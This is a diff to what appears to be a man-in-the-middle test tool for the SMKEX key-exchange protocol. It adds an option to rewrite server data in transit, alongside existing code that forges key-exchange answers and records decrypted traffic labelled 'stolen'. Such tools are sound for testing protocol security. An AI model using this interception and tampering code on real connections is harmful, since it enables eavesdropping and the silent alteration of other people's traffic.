@@ -17,6 +17,7 @@ def arguments():
     parser.add_argument("--record", required=True)
     parser.add_argument("--signature", choices=["strip", "keep"], default="strip",
                         help="the server's key and signature: leave out, or pass on as they are")
+    parser.add_argument("--alter", metavar="OLD=NEW", help="in what the server sends")
     parser.add_argument("--strip", action="store_true",
                         help="answer the client as a server that does not speak SMKEX")
     parser.add_argument("--refuse", type=int, metavar="REASON", help="refuse the client's OFFER")
@@ -63,13 +64,20 @@ class Middle:
         up_writer.write(own)
         real = await read_message(up_reader)
         forged, secret, suite = self.forge_answer(offer, real)
-        writer.write(forged)
         common.say(event="answered")
+        writer.write(forged)
         mode, got = parsed["mode"], smkex.answer_parse(real)
         client = smkex.Keys(mode, secret, offer, forged).traffic()
         server = smkex.Keys(mode, dh.derive(got["share"]), own, real).traffic()
         return [[smkex.Direction(mode, suite, client[i]),
                  smkex.Direction(mode, got["suite"], server[i])] for i in range(2)]
+
+    def alter(self, data):
+        old, _, new = (self.options.alter or "").partition("=")
+        if not old or old.encode() not in data:
+            return data
+        common.say(event="altered")
+        return data.replace(old.encode(), new.encode())
 
     async def pump(self, reader, writer, opens, seals, name):
         while True:
@@ -78,6 +86,7 @@ class Middle:
                 with open(self.options.record, "ab") as file:
                     file.write(data)
                 common.say(event="stolen", side=name, size=len(data))
+                data = self.alter(data) if name == "server" else data
             writer.write(seals.seal(kind, data))
             await writer.drain()
 
